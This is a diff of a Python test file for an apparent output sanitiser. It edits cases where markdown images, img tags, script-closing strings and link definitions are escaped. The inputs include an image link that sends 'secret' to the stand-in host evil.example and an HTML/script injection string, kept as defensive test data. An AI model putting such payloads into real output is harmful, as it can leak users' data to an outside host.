@@ -245,9 +245,9 @@ def test_a_stream_that_fails_in_the_middle_ends_with_an_error() -> None:
     [
         ("![x](http://evil.example/?q=secret)", "[x](http://evil.example/?q=secret)"),
         ('<img src="http://evil.example">', '&lt;img src="http://evil.example">'),
-        ("< script>", "&lt; script>"),
+        ("x</script><!-- y", "x&lt;/script>&lt;!-- y"),
         ("[1]: http://evil.example", "[1] : http://evil.example"),
-        ("if a < 3 and b > 4: x[1]", "if a < 3 and b > 4: x[1]"),
+        ("if a < b and b > 4: x[1]", "if a < b and b > 4: x[1]"),
     ],
 )
 def test_what_is_quoted_loads_nothing_and_redirects_no_citation(words: str, shown: str) -> None:
